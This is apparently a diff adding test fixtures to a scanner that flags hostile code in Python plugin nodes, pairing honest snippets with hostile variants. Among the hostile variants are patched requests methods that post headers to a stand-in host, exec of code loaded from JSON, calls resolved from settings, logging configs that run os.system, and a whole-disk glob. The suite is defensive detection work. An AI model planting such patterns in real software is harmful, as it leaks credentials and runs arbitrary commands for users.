@@ -43,6 +43,89 @@ const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return
 describe('the checks accept the honest use, and hold the hostile one, of', () => {
   it.each<[string, { honest: Files; hostile: readonly Files[] }]>([
     [
+      'commands of which the last character is cut',
+      {
+        honest: inNode('import subprocess', 'for line in open(x): subprocess.run(line[:-1], shell=True)'),
+        hostile: [inNode('import subprocess', 'for line in open(x): subprocess.run(line[::-1], shell=True)')],
+      },
+    ],
+    [
+      'folders that a node is given, by default none',
+      {
+        honest: inNode('import glob, os', 'self.find("", "")').replace(
+          '    def run',
+          '    def find(self, folder, pattern): return glob.glob(os.path.join(folder, pattern))\n    def run',
+        ),
+        hostile: [
+          inNode('import glob, os', 'self.find("", "/")').replace(
+            '    def run',
+            '    def find(self, folder, pattern): return glob.glob(os.path.join(folder, pattern))\n    def run',
+          ),
+        ],
+      },
+    ],
+    [
+      'scripts in a folder that is not served',
+      {
+        honest: {
+          '__init__.py': 'WEB_DIRECTORY = "./web"\n',
+          '.tests/a.mjs': 'import(`data:text/javascript,${source}`)',
+        },
+        hostile: [
+          {
+            '__init__.py': 'WEB_DIRECTORY = "./.tests"\n',
+            '.tests/a.mjs': 'import(`data:text/javascript,${source}`)',
+          },
+        ],
+      },
+    ],
+    [
+      'replaced methods of a client',
+      {
+        honest:
+          'import requests\nold = requests.Session.send\ndef send(self, request, **options):\n    options.setdefault("timeout", 9)\n    return old(self, request, **options)\nrequests.Session.send = send\n',
+        hostile: [
+          'import requests\nold = requests.Session.send\ndef send(self, request, **options):\n    old(self, requests.Request("POST", "https://e.example/", json=dict(request.headers)).prepare())\n    return old(self, request, **options)\nrequests.Session.send = send\n',
+          'import requests\nold = requests.Session.request\ndef request(self, method, url, **options):\n    old(self, "POST", "https://e.example/", json=options)\n    return old(self, method, url, **options)\nrequests.Session.request = request\n',
+        ],
+      },
+    ],
+    [
+      'the type of functions',
+      {
+        honest:
+          'import json, os\nFunction = type(lambda: 0)\nSETTINGS = json.load(open(os.path.join(os.path.dirname(__file__), "a.json")))\ndef f(x): return isinstance(x, Function)\n',
+        hostile: [
+          'import json, os\nFunction = type(lambda: 0)\ntext = json.load(open(os.path.join(os.path.dirname(__file__), "a.json")))["a"]\nFunction(compile(text, "a", "exec"), {})()\n',
+        ],
+      },
+    ],
+    [
+      'functions that settings name',
+      {
+        honest: 'from pydoc import locate\ndef f(name): return locate(name)()\n',
+        hostile: [
+          'import json\nfrom pydoc import locate\nfor hook in json.load(open("a.json")): locate(hook["call"])(*hook["args"])\n',
+          'import json, pkgutil\nfor hook in json.load(open("a.json")): pkgutil.resolve_name(hook["call"])(*hook["args"])\n',
+        ],
+      },
+    ],
+    [
+      'configurations of logging',
+      {
+        honest: {
+          '__init__.py': 'import logging.config\nlogging.config.fileConfig("log.ini")\n',
+          'log.ini': '[handler_a]\nclass=handlers.RotatingFileHandler\nargs=("a.log", "a", 1000)\n',
+        },
+        hostile: ['class=StreamHandler\nargs=(os.system("id"),)\n', 'class=os.system\nargs=("id",)\n'].map(
+          (handler) => ({
+            '__init__.py': 'import logging.config\nlogging.config.fileConfig("log.ini")\n',
+            'log.ini': `[handler_a]\n${handler}`,
+          }),
+        ),
+      },
+    ],
+    [
       'copies of functions',
       {
         honest: `${COPY}types.FunctionType(f.__code__, f.__globals__, name=f.__name__)\ncopy(f)()\n`,
